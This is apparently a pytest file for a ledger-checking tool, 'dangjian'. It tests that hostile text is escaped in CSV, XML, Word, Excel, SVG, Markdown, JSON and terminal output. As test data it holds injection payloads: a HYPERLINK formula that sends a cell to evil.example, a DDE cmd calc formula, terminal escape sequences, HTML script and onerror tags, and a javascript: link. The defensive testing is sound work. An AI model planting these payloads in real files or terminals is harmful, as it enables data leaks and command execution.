"""Nothing injected into what we write (issue 8, §4).

The ledger's text comes from colleagues and old systems and may hold anything. Each case puts
hostile text into a ledger or a report and checks the output: CSV cells neutralised against
formula injection and rows intact when parsed back; JUnit XML, Word and Excel output that parse;
no control character sent to a terminal; no raw HTML in Markdown.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dangjian import (
    Citation,
    Finding,
    Ledger,
    Period,
    Report,
    Severity,
    Status,
    Subject,
    Waiver,
    check,
    dump,
    load,
    summarize,
)
from dangjian._escape import csv_cell, json_text, markdown_cell, terminal_text, xml_text
from dangjian.cli import main
from tests.builders.example import EXAMPLE

H1 = Period.parse("2020H1")

PAYLOAD = (
    '=HYPERLINK("http://evil.example/?"&A1)\x01\x1b[2J\x08<script>alert(1)</script>'
    "|cell\r=1+1\n@SUM(A1)\x9b31m\u202e"
)
"""Formula, XML-invalid control, terminal escape, backspace, HTML, a pipe, CR and LF, a C1 CSI
and a bidirectional override: each a class of the issue."""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What must never reach a terminal: control characters but tab and LF, DEL, C1, overrides."""


def _finding(n: int, text: str, status: Status = Status.FAILED) -> Finding:
    return Finding(
        rule=f"x.rule{n}",
        status=status,
        severity=Severity.ERROR,
        subject=Subject(kind="member", id=f"{text}{n}", name=text, branch=text),
        period=Period.parse("2020-03"),
        message=f"{text} 第{n}条",
        message_en=f"{text} number {n}",
        evidence=(text, f"e{n}"),
        citations=(Citation(document=text, article="第一条", verified=True),),
        waiver=Waiver(rule=f"x.rule{n}", period=H1, reason=text, approved_by=text)
        if status is Status.WAIVED
        else None,
    )


def _report(texts: Sequence[str]) -> Report:
    statuses = (Status.FAILED, Status.PASSED, Status.WAIVED, Status.UNKNOWN)
    findings = tuple(_finding(i, t, statuses[i % len(statuses)]) for i, t in enumerate(texts))
    return Report(
        findings=findings,
        period=H1,
        as_of=dt.date(2020, 7, 15),
        profile=PAYLOAD,
        titles={f.rule: (PAYLOAD, PAYLOAD) for f in findings},
    )


HOSTILE = [PAYLOAD, "x\r=1+1", "-1+1", "+1", "@x", "\tx", "-5", "+3.25", "1e5", 'a,b"c']


# -- CSV ---------------------------------------------------------------------------------------


def _parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _neutral(cell: str) -> bool:
    return not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-][\d.eE+-]+", cell) is not None


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_cells_are_neutralised_and_rows_intact(lang: Any) -> None:
    report = _report(HOSTILE)
    rows = _parse_csv(report.render("csv", lang))
    assert len(rows) == len(HOSTILE) + 1  # x\r=1+1 no longer splits a row
    assert {len(r) for r in rows} == {11}
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert all(_neutral(cell) for cell in row), row
        assert row[5] == csv_cell(text)  # the subject's name, with its ' when it needed one
        assert row[5].removeprefix("'") == text
    names = [row[5] for row in rows[1:]]
    assert names[1] == "x\r=1+1"  # one cell, whose CR is quoted
    assert names[6:9] == ["-5", "+3.25", "1e5"]  # numbers are left alone
    assert names[2] == "'-1+1"


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_keeps_its_cell_and_row(texts: list[str]) -> None:
    texts = [t for t in texts if "\x00" not in t]  # the csv module cannot write NUL
    rows = _parse_csv(_report(texts).render("csv"))
    assert len(rows) == len(texts) + 1
    for row, text in zip(rows[1:], texts, strict=True):
        assert len(row) == 11
        assert _neutral(row[5])
        assert row[5] in (text, "'" + text)


def test_cli_csv_of_a_hostile_ledger(tmp_path: Path, capsys: Any) -> None:
    """End to end: a member's name in the example ledger is a formula and breaks lines."""
    ledger = load(EXAMPLE)
    victim = next(m for m in ledger.members if m.name == "袁志强")  # dues failures
    hostile = '=cmd|"/c calc"!A1\r=1+1'
    members = tuple(attrs.evolve(m, name=hostile) if m is victim else m for m in ledger.members)
    path = tmp_path / "hostile.yaml"
    dump(attrs.evolve(ledger, members=members), path)
    args = ["check", str(path), "--period", "2020H1", "--as-of", "2020-07-15", "--profile", "organ"]
    main([*args, "--format", "csv"])
    rows = _parse_csv(capsys.readouterr().out)
    assert {len(r) for r in rows} == {11}
    named = [r for r in rows if hostile in r[5]]
    assert named, "the hostile name shows in some finding"
    assert all(r[5] == "'" + hostile for r in named)
    assert all(_neutral(cell) for r in rows for cell in r)


# -- XML: JUnit, Word, Excel -------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_junit_with_control_characters_parses(lang: Any) -> None:
    text = _report(HOSTILE).render("junit", lang)
    root = ET.fromstring(text.encode("utf-8"))
    failures = [e for e in root.iter("failure")]
    assert failures
    assert "\\x01" in failures[0].get("message", "")
    assert "<script>" in failures[0].get("message", "")  # as text, escaped by the XML writer
    assert "\x01" not in text and "\x1b" not in text


@given(st.text())
def test_xml_text_always_fits_in_xml(text: str) -> None:
    element = ET.Element("e", attr=xml_text(text))
    element.text = xml_text(text)
    parsed = ET.fromstring(ET.tostring(element, encoding="unicode").encode("utf-8", "strict"))
    assert parsed.get("attr") == xml_text(text)
    # an XML parser reads a CR in text as a line end
    assert (parsed.text or "") == xml_text(text).replace("\r\n", "\n").replace("\r", "\n")


def _hostile_example() -> Ledger:
    ledger = load(EXAMPLE)
    return attrs.evolve(ledger, name=f"市X局{PAYLOAD}机关党委")


def test_word_summary_with_control_characters_is_written_and_read_back(tmp_path: Path) -> None:
    docx = pytest.importorskip("docx")
    ledger = _hostile_example()
    report = check(ledger, "2020H1", as_of=dt.date(2020, 7, 15), profile="organ")
    target = tmp_path / "draft.docx"
    summarize(ledger, H1, report=report).to_docx(target)
    document = docx.Document(str(target))
    title = document.paragraphs[0].text
    assert "\\x01" in title and "\\x1b[2J" in title
    assert "<script>alert(1)</script>" in title  # Word shows it as text
    assert "\x01" not in title


def test_excel_keeps_control_characters_exactly(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    ledger = _hostile_example()
    note = "备注\x01\x02\x1b\x0b\x0c end"
    members = (attrs.evolve(ledger.members[0], note=note), *ledger.members[1:])
    ledger = attrs.evolve(ledger, members=members)
    path = tmp_path / "hostile.xlsx"
    dump(ledger, path)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                ET.fromstring(z.read(name))  # every part is well-formed XML
    assert load(path) == ledger


# -- terminals and Markdown ----------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_text_output_shows_control_characters_escaped(lang: Any) -> None:
    text = _report(HOSTILE).render("text", lang)
    assert RAW_CONTROL.search(text) is None
    assert "\\x1b[2J" in text and "\\x08" in text and "\\x9b" in text and "\\u202e" in text
    assert "\\x0d" in text  # a CR cannot return to the start of the line


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_markdown_report_escapes_html_and_keeps_its_rows(lang: Any) -> None:
    report = _report(HOSTILE)
    text = report.render("markdown", lang)
    assert "<script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert RAW_CONTROL.search(text) is None
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) == len(HOSTILE) + 2  # header, rule, one line per finding
    columns = {len(re.split(r"(?<!\\)\|", line)) for line in table}
    assert len(columns) == 1  # an escaped | does not make a column


def test_markdown_summary_escapes_html_and_control_characters() -> None:
    ledger = _hostile_example()
    report = check(ledger, "2020H1", as_of=dt.date(2020, 7, 15), profile="organ")
    text = summarize(ledger, H1, report=report).to_markdown()
    assert "<script>" not in text
    assert RAW_CONTROL.search(text) is None
    title = text.splitlines()[0]
    assert title.startswith("# 市X局") and title.endswith("党建工作总结（初稿）")
    assert "&lt;script&gt;" in title and "\\x1b[2J" in title
    assert not any(line.startswith("@SUM") for line in text.splitlines())  # no new line of its own


@given(st.text())
def test_terminal_text_leaves_no_control_character(text: str) -> None:
    shown = terminal_text(text)
    assert RAW_CONTROL.search(shown) is None
    shown.encode("utf-8")  # no lone surrogate either
    assert "\n" not in markdown_cell(text) and "\r" not in markdown_cell(text)


def test_cli_messages_show_control_characters_escaped(tmp_path: Path, capsys: Any) -> None:
    """The ledger's name on standard output and a bad key on standard error, both escaped."""
    ledger = _hostile_example()
    good = tmp_path / "good.json"
    dump(ledger, good)
    assert main(["validate", str(good)]) == 0
    out = capsys.readouterr().out
    assert RAW_CONTROL.search(out) is None
    assert "\\x1b[2J" in out
    bad = tmp_path / "bad.json"
    data = json.loads(good.read_text("utf-8"))
    data["members"][0]["\x1b]0;pwned\x07"] = 1
    bad.write_text(json.dumps(data), "utf-8")
    assert main(["validate", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "members[0]" in err
    assert RAW_CONTROL.search(err) is None


# -- review: rule files on a terminal and in Markdown, SVG charts, what counts as a number -------

HOSTILE_RULES = """
profile = "hostile"
title = "hostile"

[[rule]]
id = "hostile.x"
kind = "frequency"
severity = "warning"
confidence = "local"
title = "学习\\u001b]0;pwned\\u0007\\u001b[2J<img src=x onerror=alert(1)>|col"
title_en = "Study\\u001b[31m red\\u009b1m <b>|col"
description = "desc\\u001b[31m\\u202e"
description_en = "desc\\u001b[31m\\u202e"
applies_to = { levels = ["committee"] }
params = { record = "study", audiences = ["centre_group"], per = "month", at_least = 1 }
citations = [{ document = "计划\\u001b[31m", verified = false, note = "n\\u202e" }]
"""


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_rules_and_explain_of_a_hostile_rule_file(lang: str, tmp_path: Path, capsys: Any) -> None:
    """A rule file from elsewhere: ``dangjian rules`` and ``explain`` show its text escaped on a
    terminal, and as text (no HTML, no extra column) in Markdown."""
    rules = tmp_path / "hostile.toml"
    rules.write_text(HOSTILE_RULES, "utf-8")
    common = ["--lang", lang, "--profile", "organ", "--rules", str(rules)]
    assert main(["rules", *common]) == 0
    out = capsys.readouterr().out
    assert RAW_CONTROL.search(out) is None
    assert "\\x1b[" in out
    assert main(["explain", "hostile.x", *common]) == 0
    out = capsys.readouterr().out
    assert RAW_CONTROL.search(out) is None
    assert "\\x1b[31m" in out and "\\u202e" in out
    assert main(["explain", "no.such\x1b[31m", *common]) == 2
    assert RAW_CONTROL.search(capsys.readouterr().err) is None
    assert main(["rules", *common, "--format", "markdown"]) == 0
    out = capsys.readouterr().out
    assert "<img" not in out and "<b>" not in out
    assert RAW_CONTROL.search(out) is None
    table = [line for line in out.splitlines() if line.startswith("|")]
    columns = {len(re.split(r"(?<!\\)\|", line)) for line in table}
    assert columns == {6}  # four columns between the outer bars; the rule's | is escaped


def test_svg_chart_of_a_ledger_with_control_characters_parses(tmp_path: Path) -> None:
    """matplotlib writes a name's control characters into SVG as they are, which no XML
    parser accepts."""
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("Agg")
    import gzip
    import warnings

    from dangjian import charts

    ledger = _hostile_example()
    branch = attrs.evolve(ledger.branches[0], name=f"支部{PAYLOAD}")
    ledger = attrs.evolve(ledger, branches=(branch, *ledger.branches[1:]))
    report = check(ledger, "2020H1", as_of=dt.date(2020, 7, 15), profile="organ")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # glyphs missing from the fonts here
        fig = charts.activity_heatmap(ledger, "2020H1", report=report)
        charts.save_chart(fig, tmp_path / "chart.svg")
        charts.save_chart(fig, tmp_path / "chart.svgz")
    svg = (tmp_path / "chart.svg").read_bytes()
    ET.fromstring(svg)
    assert b"\\x01" in svg and b"\x01" not in svg
    ET.fromstring(gzip.decompress((tmp_path / "chart.svgz").read_bytes()))


def test_only_ascii_numbers_escape_the_quote() -> None:
    assert csv_cell("-1") == "-1"
    assert csv_cell("-١٢") == "'-١٢"  # Arabic-Indic digits are no number to a spreadsheet
    assert csv_cell("+86 138 0000 0000") == "'+86 138 0000 0000"
    assert csv_cell("-1\n") == "'-1\n"


@given(st.text())
def test_json_text_is_the_same_json_and_safe_on_a_terminal(text: str) -> None:
    data = {"k" + text: [text, {"v": text}]}
    shown = json_text(json.dumps(data, ensure_ascii=False, indent=2))
    assert json.loads(shown) == data
    assert RAW_CONTROL.search(shown) is None


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_json_report_and_summary_hold_no_terminal_control(lang: Any, capsys: Any) -> None:
    """JSON goes to the terminal by default: the C1 CSI and the override, which JSON may hold as
    they are, are written as JSON escapes; the data reads back the same."""
    report = _report(HOSTILE)
    text = report.render("json", lang)
    assert RAW_CONTROL.search(text) is None
    assert json.loads(text)["findings"][0]["subject"]["name"] == PAYLOAD
    ledger = _hostile_example()
    checked = check(ledger, "2020H1", as_of=dt.date(2020, 7, 15), profile="organ")
    draft = summarize(ledger, H1, report=checked).to_json()
    assert RAW_CONTROL.search(draft) is None
    assert json.loads(draft)["organisation"] == ledger.name


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_junit_holds_no_terminal_control_and_reads_back_the_text(lang: Any) -> None:
    """XML may hold a C1 CSI or an override as it is; the report writes them as character
    references, which an XML parser reads back as the characters."""
    text = _report(HOSTILE).render("junit", lang)
    assert RAW_CONTROL.search(text) is None
    root = ET.fromstring(text.encode("utf-8"))
    messages = [e.get("message", "") for e in root.iter("failure")]
    assert any("\x9b31m\u202e" in m for m in messages)


def test_text_report_keeps_one_line_per_finding() -> None:
    """A line break in a name would show a line that looks like a finding of its own."""
    fake = "张三\ncharter.fake  passed  error\tx"
    text = _report([fake, "李四"]).render("text-verbose", "en")
    table = text.split("\n\n", 1)[1].rstrip("\n").splitlines()
    assert len(table) == 2 + 2  # headers, rule, one line per finding
    assert "\\ncharter.fake" in text and "\\tx" in text
    grouped = _report([fake, "李四"]).render("text", "en")  # grouped, fitted to a width
    assert "\\ncharter.fake" in grouped and "\\tx" in grouped
    assert not any(line.lstrip().startswith("charter.fake") for line in grouped.splitlines())


def test_markdown_shows_an_image_or_a_link_as_text() -> None:
    """``![](http://…)`` in a name would make a Markdown viewer fetch the address."""
    image = "![x](http://evil.example/pixel.png)[y](javascript:alert(1))"
    text = _report([image]).render("markdown", "en")
    assert "![x](" not in text and "[y](" not in text
    assert "![x\\](http://evil.example/pixel.png)" in text
    assert markdown_cell("members[0]") == "members[0]"


def test_validate_shows_the_ledger_name_on_one_line(tmp_path: Path, capsys: Any) -> None:
    """A line break in the name would show a count line that the ledger does not hold."""
    ledger = load(EXAMPLE)
    path = tmp_path / "led.json"
    dump(attrs.evolve(ledger, name="市X局\n  党员：9999"), path)
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert "\n  党员：9999" not in out
    assert "市X局\\n  党员：9999：台账有效" in out
